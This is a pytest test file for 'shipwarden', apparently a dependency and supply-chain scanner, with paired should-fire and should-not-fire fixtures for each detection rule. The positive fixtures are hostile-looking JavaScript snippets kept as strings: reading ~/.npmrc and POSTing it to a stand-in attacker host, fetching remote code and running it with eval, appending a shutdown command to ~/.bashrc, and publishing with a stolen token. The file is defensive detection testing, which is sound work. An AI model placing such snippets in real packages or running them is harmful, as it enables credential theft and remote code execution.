"""One positive and one negative fixture per deps rule module, end to end through ``scan_deps``.

Each sample is inert text written for this suite (never executed); hosts are ``*.invalid``.
The change rules (new/changed/first install script, new source) have theirs in
``test_deps_change.py`` (a reviewed set that round-trips clean, then each change).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from shipwarden.core.catalogue import all_rules
from shipwarden.deps import rules
from shipwarden.deps.scan import scan_deps


def _project(root: Path, code: str, *, scripts: dict[str, str] | None = None, npmrc: str = "") -> Path:
    pkg = root / "node_modules" / "sample-pkg"
    pkg.mkdir(parents=True)
    (pkg / "package.json").write_text(json.dumps({"name": "sample-pkg", "version": "1.0.0",
                                                  "scripts": scripts or {"postinstall": "node setup.js"}}))
    (pkg / "setup.js").write_text(code)
    (root / "package.json").write_text('{"name": "app", "version": "1.0.0"}')
    if npmrc:
        (root / ".npmrc").write_text(npmrc)
    return root


def _rules(root: Path) -> dict[str, str]:
    return {f.rule_id: f.tier.value for f in scan_deps(root).report.findings}


# (rule, code that must fire it, near-miss that must not)
BEHAVIOUR = [
    ("deps-credential-theft",
     "const fs=require('fs'),os=require('os');\nconst t=fs.readFileSync(os.homedir()+'/.npmrc');\n"
     "fetch('https://collect.attacker.invalid/a',{method:'POST',body:t});\n",
     "const fs=require('fs'),path=require('path');\nconst p=JSON.parse(fs.readFileSync(path.join(__dirname,'package.json')));\n"
     "console.log(p.name);\n"),
    ("deps-runner-memory",
     'const fs=require("fs"); for (const p of fs.readdirSync("/proc")) fs.readFileSync(`/proc/${p}/mem`)\n',
     'const fs=require("fs"); console.log(fs.readFileSync("/proc/cpuinfo", "utf8").length)\n'),
    ("deps-self-propagation",
     "const cp=require('child_process');\nconst fs=require('fs'),os=require('os');\n"
     "const t=fs.readFileSync(os.homedir()+'/.npmrc');\ncp.spawnSync('npm', ['publish', '--access', 'public']);\n",
     "const cp=require('child_process');\ncp.spawnSync('npm', ['--version']);\n"),
    ("deps-persistence",
     'const fs=require("fs"),os=require("os"); fs.appendFileSync(os.homedir()+"/.bashrc", "sudo shutdown -h 0")\n',
     'const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(__dirname,"dist","config.json"), "{}")\n'),
    ("deps-obfuscated-exec",
     "const s = atob(process.argv[2] || 'Y29uc29sZS5sb2coMSk='); eval(s);\n",
     "eval('1+1');\n"),
    ("deps-download-exec",
     "const https = require('https');\nhttps.get('https://stage2.attacker.invalid/x.js', (res) => {\n"
     "  let body = '';\n  res.on('data', (d) => { body += d; });\n  res.on('end', () => eval(body));\n});\n",
     "const https = require('https');\nhttps.get('https://stage2.attacker.invalid/x.js', (res) => {\n"
     "  let body = '';\n  res.on('data', (d) => { body += d; });\n  res.on('end', () => console.log(body.length));\n});\n"),
    ("deps-exfil-endpoint",
     "fetch('https://abc.webhook.site/ping');\n",
     "fetch('https://downloads.example.invalid/ping');\n"),
    ("deps-obfuscated-code",
     ";".join(f"var _0x{i:04x}a=1" for i in range(10)) + "\n",
     "var _0xabc=1; function f(a,b){return a+b}\n"),
]


@pytest.mark.parametrize(("rule", "bad", "good"), BEHAVIOUR, ids=[r for r, _, _ in BEHAVIOUR])
def test_behaviour_rule(tmp_path: Path, rule: str, bad: str, good: str) -> None:
    assert rule in _rules(_project(tmp_path / "pos", bad))
    found = _rules(_project(tmp_path / "neg", good))
    assert rule not in found
    assert "deps-install-script" in found  # the hook is still inventoried


def test_install_script(tmp_path: Path) -> None:
    assert _rules(_project(tmp_path / "pos", "console.log('built')\n")).get("deps-install-script") == "P2"
    assert "deps-install-script" not in _rules(_project(tmp_path / "neg", "", scripts={"test": "node setup.js"}))


def test_pth_startup_code(tmp_path: Path) -> None:
    site = tmp_path / "pos" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "orphan.pth").write_text("import telemetry_boot_hook\n")
    assert _rules(tmp_path / "pos").get("deps-pth-startup-code") == "P1"
    site = tmp_path / "neg" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "paths.pth").write_text("/opt/extra/lib\n")  # a path line runs nothing
    assert "deps-pth-startup-code" not in _rules(tmp_path / "neg")


def test_non_registry_source(tmp_path: Path) -> None:
    def lock(folder: Path, resolved: str) -> Path:
        folder.mkdir()
        (folder / "package-lock.json").write_text(json.dumps({"lockfileVersion": 3, "packages": {
            "": {"name": "app"},
            "node_modules/helper": {"version": "1.0.0", "resolved": resolved, "hasInstallScript": True},
        }}))
        return folder

    got = scan_deps(lock(tmp_path / "pos", "git+ssh://git@git.example.invalid/example/helper.git#0123456789abcdef0123456789abcdef01234567"))
    assert {f.rule_id: f.tier.value for f in got.report.findings}.get("deps-non-registry-source") == "P1"
    got = scan_deps(lock(tmp_path / "neg", "https://registry.example.invalid/helper/-/helper-1.0.0.tgz"))
    assert "deps-non-registry-source" not in {f.rule_id for f in got.report.findings}


def test_scripts_not_gated(tmp_path: Path) -> None:
    assert "deps-scripts-not-gated" in _rules(_project(tmp_path / "pos", "console.log(1)\n"))
    assert "deps-scripts-not-gated" not in _rules(_project(tmp_path / "neg", "console.log(1)\n", npmrc="ignore-scripts=true\n"))


def test_every_rule_module_is_in_the_catalogue_once() -> None:
    ids = [m.id for m in rules.ALL_RULES]
    assert len(ids) == len(set(ids)) == 16
    assert all(all_rules()[i].command == "deps" and all_rules()[i].row == 4 for i in ids)
    covered = {r for r, _, _ in BEHAVIOUR} | {"deps-install-script", "deps-pth-startup-code", "deps-non-registry-source",
                                              "deps-scripts-not-gated", "deps-new-install-script",
                                              "deps-changed-install-script", "deps-first-install-script", "deps-new-source"}
    assert covered == set(ids)
